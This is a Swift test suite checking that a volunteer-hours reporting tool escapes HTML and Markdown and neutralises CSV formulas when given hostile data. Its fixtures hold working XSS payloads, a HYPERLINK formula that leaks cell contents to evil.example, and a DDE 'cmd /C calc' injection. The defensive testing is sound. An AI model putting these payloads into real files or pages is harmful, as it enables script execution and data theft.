import Foundation
import Testing
@testable import FiveHours

/// Issue 6 §3: data that looks like code, through the whole binary (weekly in every format and
/// header style, --public, daily). In HTML and Markdown it is text, escaped per Unicode scalar:
/// no tag, attribute or table cell comes from data. In CSV it is neutralised (a leading `'`
/// inside the quotes) and round-trips exactly.
@Suite("Data that looks like code (issue 6)")
struct CodeLikeDataTests {
    /// Values that try to be markup, formulas, Markdown or template tags.
    static let nasty: [String] = [
        "<script>alert(1)</script>",
        "\"\u{301} onmouseover=alert(1) x=\"",
        "'\u{301} onfocus=alert(2) x='",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")",
        "+1+2",
        "-3+4",
        "@SUM(A1:A9)",
        "a\tb",
        "a\rb",
        "＝1+1",
        "**粗体** [链接](javascript:alert(4)) | 竖线 | `代码` {{css}} {{{css}}}",
        "</td></tr><img src=x onerror=alert(3)>",
        "&lt;已转义&gt; &amp; &#60;",
    ]

    /// A volunteer id that is a formula, and a unit whose name is one.
    static let formulaID = "=1+1"
    static let formulaUnit = "=HYPERLINK(\"http://evil.example\",\"单位\")"

    /// One CSV cell, quoted by Unicode scalar (`replacingOccurrences` goes by `Character` and
    /// would miss the quote of `"\u{301}`).
    static func csvCell(_ s: String) -> String {
        guard s.unicodeScalars.contains(where: { $0 == "," || $0 == "\"" || $0 == "\n" || $0 == "\r" }) else { return s }
        var out = String.UnicodeScalarView()
        out.append("\"")
        for c in s.unicodeScalars {
            out.append(c)
            if c == "\"" { out.append("\"") }
        }
        out.append("\"")
        return String(out)
    }

    /// The campaign: one volunteer per nasty value (as name, team, activity, location and
    /// title), a unit named by a formula, a weekly summary made of nasty text, and two rows
    /// whose raw text starts like a formula and that are rejected.
    static func campaign() throws -> URL {
        var s = Scenario()
        let yamlUnit = formulaUnit.replacingOccurrences(of: "'", with: "''")
        var roster = "volunteer_id,name,unit,teams,role,liaison\n"
        var activities = "record_id,volunteer_id,date,start,end,hours,team,activity,location,title,description\n"
        for (i, v) in nasty.enumerated() {
            let id = i == 0 ? formulaID : "N\(i)"
            let unit = i == 1 ? formulaUnit : "甲科"
            roster += [id, v, unit, "小红象志愿服务队;" + v, "", ""].map(csvCell).joined(separator: ",") + "\n"
            activities += ["R\(i)", id, "2019-08-07", "\(8 + i % 10):00", "\(9 + i % 10):00", "", "小红象志愿服务队", v, v, v, v].map(csvCell).joined(separator: ",") + "\n"
        }
        activities += "\t=1+1,N1,2019-13-45,9:00,10:00,,,,,,\n"
        activities += "\"=cmd|' /C calc'!A0\",N2,2019-08-07,9:00,,,,,,,\n"
        s.roster = roster
        s.activities = activities
        let summary = nasty.joined(separator: " ")
        s.submissions = "unit,kind,period,submitted_at,title,summary,plan\n"
            + ["甲科", "weekly", "2019-08-09", "2019-08-09 14:00", nasty[0], summary, nasty[3] + " " + nasty[1]].map(csvCell).joined(separator: ",") + "\n"
            + ["甲科", "daily", "2019-08-07", "2019-08-07 15:00", nasty[11], summary, ""].map(csvCell).joined(separator: ",") + "\n"
        let folder = try s.write()
        let yaml = s.campaignYAML.replacingOccurrences(of: "  - { name: 第一站, kind: workstation }",
                                                       with: "  - { name: 第一站, kind: workstation }\n  - { name: '\(yamlUnit)', kind: workstation }")
        try ImportTestSupport.write(yaml, to: "campaign.yaml", in: folder)
        return folder
    }

    /// Tags a report may contain: the templates' own. A tag from data would be something else
    /// or carry an `on…=` attribute.
    static let allowedTags: Set<String> = [
        "html", "head", "meta", "title", "style", "body", "main", "header", "footer", "section", "article", "nav", "aside",
        "h1", "h2", "h3", "h4", "p", "div", "span", "small", "strong", "em", "b", "br", "hr", "ul", "ol", "li", "dl", "dt", "dd",
        "table", "caption", "colgroup", "col", "thead", "tbody", "tfoot", "tr", "th", "td", "figure", "figcaption", "details", "summary",
        "svg", "g", "rect", "line", "text", "path", "circle", "title", "desc", "tspan", "polyline",
        "img", "video", "a", "abbr", "time", "mark", "sup", "sub", "code",
    ]

    static func checkHTML(_ html: String, file: String, expectPresent: [String], sourceLocation: SourceLocation = #_sourceLocation) {
        #expect(!html.lowercased().contains("<script"), "\(file): a <script>", sourceLocation: sourceLocation)
        // The program's own CSS, the doctype and comments aside, every tag is one of the
        // template's, and none has an event handler or a script URL.
        // Regexes match by Unicode scalar here: by Character, `>` followed by a combining mark is
        // not `>`, which is the very trick under test.
        let body = html.replacing(try! Regex("(?s)<style[^>]*>.*?</style>|<!DOCTYPE[^>]*>|<!--.*?-->").matchingSemantics(.unicodeScalar), with: "")
        let tag = try! Regex("<\\s*/?\\s*([A-Za-z][A-Za-z0-9-]*)([^>]*)>").matchingSemantics(.unicodeScalar)
        for m in body.matches(of: tag) {
            let name = String(m.output[1].substring ?? "").lowercased()
            let attrs = String(m.output[2].substring ?? "").lowercased()
            #expect(allowedTags.contains(name), "\(file): tag <\(name)> from data", sourceLocation: sourceLocation)
            #expect(attrs.firstMatch(of: try! Regex("(^|[\\s\"'/])on[a-z]+\\s*=").matchingSemantics(.unicodeScalar)) == nil, "\(file): an event handler in <\(name)\(attrs)>", sourceLocation: sourceLocation)
            #expect(!attrs.contains("javascript:"), "\(file): a script URL in <\(name)\(attrs)>", sourceLocation: sourceLocation)
        }
        // Outside tags, `&` starts an entity and `<`/`>` never appear raw.
        let text = body.replacing(tag, with: "")
        let entity = try! Regex("&(#[0-9]+|#x[0-9A-Fa-f]+|[A-Za-z][A-Za-z0-9]*);").matchingSemantics(.unicodeScalar)
        #expect(!text.replacing(entity, with: "").unicodeScalars.contains("&"), "\(file): a bare & outside tags", sourceLocation: sourceLocation)
        #expect(!text.unicodeScalars.contains { $0 == "<" || $0 == ">" }, "\(file): a raw < or > outside tags", sourceLocation: sourceLocation)
        // The values are there, as text.
        for v in expectPresent {
            #expect(html.contains(HTMLEscape.escape(v)), "\(file): \(v.debugDescription) is missing or not escaped", sourceLocation: sourceLocation)
        }
    }

    static func checkMarkdown(_ md: String, file: String, expectPresent: [String], sourceLocation: SourceLocation = #_sourceLocation) {
        #expect(!md.lowercased().contains("<script"), "\(file)", sourceLocation: sourceLocation)
        #expect(!md.contains("<img"), "\(file)", sourceLocation: sourceLocation)
        #expect(!md.replacingOccurrences(of: "\\]", with: "").contains("](javascript:"), "\(file): a live link", sourceLocation: sourceLocation)
        // Every row of a table has as many unescaped pipes as the table's header.
        var expected: Int?
        for line in md.split(separator: "\n", omittingEmptySubsequences: false) {
            guard line.hasPrefix("|") else { expected = nil; continue }
            var pipes = 0, escaped = false
            for s in line.unicodeScalars {
                if escaped { escaped = false; continue }
                if s == "\\" { escaped = true } else if s == "|" { pipes += 1 }
            }
            if let e = expected { #expect(pipes == e, "\(file): a table row split by data: \(line)", sourceLocation: sourceLocation) } else { expected = pipes }
        }
        for v in expectPresent {
            #expect(md.contains(MarkdownEscape.escape(v)), "\(file): \(v.debugDescription) is missing or not escaped", sourceLocation: sourceLocation)
        }
    }

    /// With --public no nasty name appears whole, escaped or not.
    static func checkMasked(_ text: String, file: String, escape: (String) -> String, sourceLocation: SourceLocation = #_sourceLocation) {
        for v in nasty.map({ $0.trimmingCharacters(in: .whitespacesAndNewlines) }) where v.unicodeScalars.count > 4 {
            #expect(!text.contains(escape(v)) && !text.contains(v), "\(file): the name \(v.debugDescription) is not masked", sourceLocation: sourceLocation)
        }
    }

    /// Parses a CSV strictly; every cell that would start a formula is neutralised; rows are
    /// rectangular. Returns the cells with the `'` removed.
    static func checkCSV(_ bytes: [UInt8], file: String, sourceLocation: SourceLocation = #_sourceLocation) throws -> [[String]] {
        let rows = try Hostile.parseCSV(bytes)
        let width = rows.first?.count ?? 0
        for r in rows {
            #expect(r.count == width, "\(file): a ragged row \(r)", sourceLocation: sourceLocation)
            for cell in r {
                #expect(!Hostile.looksLikeFormula(cell), "\(file): a live formula \(cell.debugDescription)", sourceLocation: sourceLocation)
            }
        }
        return rows.map { $0.map(Hostile.unneutralised) }
    }

    @Test("weekly (html, md, csv; labels and keys; --public) and daily: escaped, neutralised, round-tripping")
    func throughTheBinary() throws {
        let folder = try Self.campaign()
        defer { ImportTestSupport.remove(folder) }
        let config = folder.appendingPathComponent("campaign.yaml").path
        let now = ["--now", "2019-08-10T12:00:00+08:00", "--quiet"]
        let runs: [(String, [String])] = [
            ("keys", ["weekly", "--config", config, "--week-ending", "2019-08-09", "--csv-header", "keys"]),
            ("labels", ["weekly", "--config", config, "--week-ending", "2019-08-09"]),
            ("public", ["weekly", "--config", config, "--week-ending", "2019-08-09", "--public", "--format", "html,md"]),
            ("daily", ["daily", "--config", config, "--date", "2019-08-07", "--csv-header", "keys"]),
        ]
        let trimmed = Self.nasty.map { $0.trimmingCharacters(in: .whitespacesAndNewlines) }
        for (name, args) in runs {
            let out = folder.appendingPathComponent("out-\(name)")
            let r = try Hostile.run(args + now + ["--out", out.path])
            #expect(r.status == 0, "\(name): \(r.stderr)")
            let files = Hostile.files(under: out).filter { !$0.key.hasSuffix(".lock") }
            #expect(!files.isEmpty)
            for (file, bytes) in files {
                let text = String(decoding: bytes, as: UTF8.self)
                let label = "\(name)/\(file)"
                if file.hasSuffix(".html") {
                    // Names, the plan (made of names) and the titles, except with --public, which masks
                    // every rostered name wherever it appears.
                    let present = name == "public" ? [] : file.hasPrefix("weekly")
                        ? [Self.nasty[3] + " " + Self.nasty[1], Self.nasty[0], Self.nasty[1], Self.nasty[4], Self.nasty[10]] : [Self.nasty[11]]
                    Self.checkHTML(text, file: label, expectPresent: present)
                    if name == "public" { Self.checkMasked(text, file: label, escape: HTMLEscape.escape) }
                } else if file.hasSuffix(".md") {
                    let present = name == "public" ? [] : [Self.nasty[0], Self.nasty[10]]
                    Self.checkMarkdown(text, file: label, expectPresent: present)
                    if name == "public" { Self.checkMasked(text, file: label, escape: MarkdownEscape.escape) }
                } else if file.hasSuffix(".csv") {
                    let rows = try Self.checkCSV(bytes, file: label)
                    guard name != "labels" else { continue }
                    let header = rows.first ?? []
                    let records = rows.dropFirst().map { Dictionary(uniqueKeysWithValues: zip(header, $0)) }
                    if file.hasSuffix("volunteers.csv") {
                        // Round trip: every nasty name comes back exactly, ids and units too.
                        #expect(Set(records.compactMap { $0["name"] }) == Set(trimmed))
                        #expect(records.contains { $0["volunteer_id"] == Self.formulaID && $0["name"] == trimmed[0] })
                        #expect(records.contains { $0["unit"] == Self.formulaUnit && $0["name"] == trimmed[1] })
                        for (i, v) in trimmed.enumerated() {
                            let teams = records.first { $0["name"] == v }?["teams"]
                            #expect(teams == (["小红象志愿服务队"] + RowParser.split(Self.nasty[i])).joined(separator: ";"), "\(v.debugDescription)")
                        }
                    }
                    if file.hasSuffix("units.csv") {
                        #expect(records.map { $0["unit"] ?? "" } == ["甲科", "乙科", "第一站", Self.formulaUnit])
                    }
                    if file.hasSuffix("activities.csv") {
                        for v in trimmed {
                            #expect(records.contains { $0["activity"] == v && $0["location"] == v && $0["name"] == v }, "\(v.debugDescription)")
                        }
                    }
                    if file.hasSuffix("rejects.csv") {
                        let raw = records.map { $0["record"] ?? "" }
                        #expect(raw.contains("\t=1+1,N1,2019-13-45,9:00,10:00,,,,,,"), "\(raw)")
                        // The row as written, its quotes too (the contract's raw row).
                        #expect(raw.contains("\"=cmd|' /C calc'!A0\",N2,2019-08-07,9:00,,,,,,,"), "\(raw)")
                    }
                }
            }
        }
    }

    @Test("a rejected row is quoted back by Unicode scalar in rejects.csv: the record parses to the cells")
    func rejectedRowRoundTrips() throws {
        var s = Scenario()
        let cells = ["R1", "V1", "2019-13-45", "9:00", "10:00", "", "\"\u{301} onmouseover=alert(1), x=\"", "=1+1"]
        s.activities = "record_id,volunteer_id,date,start,end,hours,team,activity\n" + cells.map(Self.csvCell).joined(separator: ",")
        let outcome = try s.run()
        defer { ImportTestSupport.remove(outcome.folder) }
        let reject = try #require(outcome.rejects.first { $0.source.description == "activities/log.csv:2" })
        #expect(reject.record == cells.map(Self.csvCell).joined(separator: ","))
        // The record, itself parsed as a CSV line, gives back the cells.
        let parsed = try Hostile.parseCSV([0xEF, 0xBB, 0xBF] + Array((reject.record + "\r\n").utf8))
        #expect(parsed == [cells])
    }

    @Test("CSVWriter neutralises every formula start and quotes what needs it", arguments: [
        ("=1+1", "\"'=1+1\""), ("+1", "\"'+1\""), ("-1", "\"'-1\""), ("@A1", "\"'@A1\""), ("\tx", "\"'\tx\""), ("\rx", "\"'\rx\""),
        ("＝1", "\"'＝1\""), ("＋1", "\"'＋1\""), ("－1", "\"'－1\""), ("＠1", "\"'＠1\""),
        ("\"\u{301},=x", "\"\"\"\u{301},=x\""), ("a,b", "\"a,b\""), ("a\nb", "\"a\nb\""), ("a\"b", "\"a\"\"b\""), ("plain", "plain"),
        ("'=quoted already", "'=quoted already"), ("", ""), ("1-2", "1-2"),
        // After white space or an invisible character: a spreadsheet that trims spaces sees the formula.
        (" =cmd|' /C calc'!A0", "\"' =cmd|' /C calc'!A0\""), ("\u{A0}+1", "\"'\u{A0}+1\""), ("\u{3000}＝1", "\"'\u{3000}＝1\""),
        ("\u{200B}=1", "\"'\u{200B}=1\""), ("\u{FEFF}@x", "\"'\u{FEFF}@x\""), (" \t-1", "\"' \t-1\""), ("  x", "  x"), (" 1-2", " 1-2"),
    ])
    func cells(_ value: String, _ expected: String) {
        #expect(CSVWriter.cell(value) == expected)
    }

    @Test("HTML and Markdown escaping go by Unicode scalar")
    func scalarEscaping() {
        let v = "\"\u{301} onmouseover=alert(1)"
        #expect(v.first == "\"\u{301}" && v.unicodeScalars.first == "\"") // one Character holds the quote
        #expect(HTMLEscape.escape(v) == "&quot;\u{301} onmouseover&#61;alert(1)")
        #expect(MarkdownEscape.escape("<b>|x|</b>\n*") == "&lt;b&gt;\\|x\\|&lt;/b&gt; \\*")
    }

    @Test("a mask is the contract's * in Markdown: in each table cell, paragraph, list item or heading the first run inside a word as it is, any other escaped")
    func markdownMasks() {
        let m = String(Character(NameMask.marker))
        func md(_ text: String) -> String { MarkdownMasks.place(text) }
        #expect(MarkdownEscape.escape("王\(m)跃") == "王\(m)跃") // placed once the document is whole
        #expect(md("王\(m)跃") == "王*跃")
        #expect(md("张\(m)") == "张*")
        #expect(md("欧\(m)\(m)娜") == "欧**娜")
        #expect(md("牛\(m)华、常\(m)芳") == "牛*华、常\\*芳")
        #expect(md(String(repeating: m, count: 11)) == String(repeating: "\\*", count: 11))
        #expect(md("请联系 \(m)\(m)\(m)") == "请联系 \\*\\*\\*")
        // A table row: each cell a context of its own; an escaped bar is a cell's text.
        #expect(md("| 王\(m)跃 | 张\(m) | a\\|李\(m)明、赵\(m) |") == "| 王*跃 | 张* | a\\|李*明、赵\\* |")
        // A paragraph's lines (a hard break between them) are one context; a list item, a
        // heading and a blank line begin another.
        #expect(md("9:00 · 李\(m)老师家中  \n王\(m)跃 · 小红象") == "9:00 · 李*老师家中  \n王\\*跃 · 小红象")
        #expect(md("- 李\(m)明\n- 王\(m)跃\n\n王\(m)跃\n#### 张\(m)伟") == "- 李*明\n- 王*跃\n\n王*跃\n#### 张*伟")
        #expect(HTMLEscape.escape("牛\(m)华、常\(m)芳") == "牛*华、常*芳")
    }
}
